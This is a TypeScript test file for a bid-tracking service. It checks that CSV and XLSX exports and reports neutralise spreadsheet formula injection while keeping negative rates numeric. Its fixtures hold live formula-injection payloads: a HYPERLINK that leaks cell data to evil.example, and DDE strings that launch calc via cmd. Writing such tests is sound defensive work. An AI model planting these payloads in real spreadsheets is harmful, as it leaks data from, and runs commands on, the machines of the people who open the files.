import { mkdtempSync, readFileSync } from 'node:fs';

import { tmpdir } from 'node:os';

import { join } from 'node:path';

import { parse } from 'csv-parse/sync';

import ExcelJS from 'exceljs';
import request from 'supertest';
import { csv, tenderRows, tmpFile } from './support/fixtures.js';

import { runCli } from './support/run-cli.js';

import { serviceEnv, withEnv } from './support/test-db.js';
import { startTestApp, type TestApp } from './support/test-app.js';

import { importService } from './support/services.js';


/**
 * Issue 14, point 4: text from imported files that a spreadsheet would run as a formula is neutralised (a leading
 * apostrophe) in every CSV and XLSX the service writes — CLI exports, the report's CSV and XLSX (API and CLI); the
 * rejected-rows download is covered in import-hardening.test.ts. Numbers stay numbers, negative ones included.
 */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,2)',
];
const DISTRICT = '=HYPERLINK("http://evil.example","玉山镇")';

let t: TestApp;
const out = mkdtempSync(join(tmpdir(), 'bidwatch-inject-'));

beforeAll(async () => {
  t = await startTestApp({ worker: false, users: [['boss', 'supervisor']] });
  const rows = [
    ...tenderRows('+SUM(1+1)', 4, { district: DISTRICT, open_date: '2024-05-01' }).map((r, i) => ({ ...r, bidder_name: HOSTILE[i]! })),
    // The winner bids above the control price: a negative 下浮率 (-0.05), which must stay a number.
    ...tenderRows('T-NEG-1', 2, { open_date: '2024-06-01' }, 10).map((r, i) => ({ ...r, bid_price: i === 0 ? '10500000.00' : '9000000.00' })),
  ];
  const s = await importService(t.db.ds)
    .importFile({ path: tmpFile('hostile.csv', csv(rows)), kind: 'bids', format: 'csv' });
  expect(s).toMatchObject({ accepted: 6, rejected: 0 });
}, 60_000);
afterAll(async () => t?.close());

const cli = (...args: string[]) => withEnv(serviceEnv(t.db), () => runCli(...args));

describe('CSV exports', () => {
  it('firms: every hostile name neutralised', async () => {
    const file = join(out, 'firms.csv');
    expect((await cli('export', 'firms', '--out', file)).status).toBe(0);
    const rows = parse(readFileSync(file), { columns: true }) as Record<string, string>[];
    const names = rows.map((r) => r.bidder_name);
    for (const h of HOSTILE) expect(names).toContain(`'${h}`);
    expect(names.every((n) => !/^[=+\-@\t\r]/.test(n!))).toBe(true);
    expect(rows.every((r) => /^\d+$/.test(r.n_bids!))).toBe(true);
  });

  it('tenders: a hostile code neutralised, a negative 下浮率 still a number', async () => {
    const file = join(out, 'tenders.csv');
    expect((await cli('export', 'tenders', '--out', file, '--bom')).status).toBe(0);
    const rows = parse(readFileSync(file), { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.map((r) => r.tender_code)).toEqual(expect.arrayContaining(["'+SUM(1+1)", 'T-NEG-1']));
    const neg = rows.find((r) => r.tender_code === 'T-NEG-1')!;
    expect(neg.winner_discount).toBe('-0.05000000');
    expect(Number(neg.winner_discount)).toBeCloseTo(-0.05, 10);
  });
});

describe('the report', () => {
  it('CSV over the API: the district neutralised, rates numbers', async () => {
    const r = await request(t.server).get('/api/reports/discount-trend?from=2024&to=2024&by=district&format=csv')
      .set('Authorization', `Bearer ${t.keys.boss}`).buffer(true).parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      });
    expect(r.status).toBe(200);
    const rows = parse(r.body as Buffer, { bom: true }) as string[][];
    const cells = rows.flat();
    expect(cells).toContain(`'${DISTRICT}`);
    expect(cells.some((c) => /^[=+@\t\r]/.test(c) || /^-[^0-9.]/.test(c))).toBe(false);
    expect(cells.some((c) => c === '-0.05')).toBe(true);
  });

  it('XLSX from the CLI: the district is text with the apostrophe, the rates are numbers', async () => {
    const file = join(out, 'report.xlsx');
    expect((await cli('report', 'discount-trend', '--from', '2024', '--to', '2024', '--by', 'district', '--format', 'xlsx', '--out', file)).status).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const values: unknown[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => values.push(c.value))));
    expect(values).toContain(`'${DISTRICT}`);
    const texts = values.filter((v): v is string => typeof v === 'string');
    expect(texts.some((v) => /^[=+@\t\r]/.test(v) || /^-[^0-9.]/.test(v))).toBe(false);
    expect(values.some((v) => v === -0.05)).toBe(true);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });
});
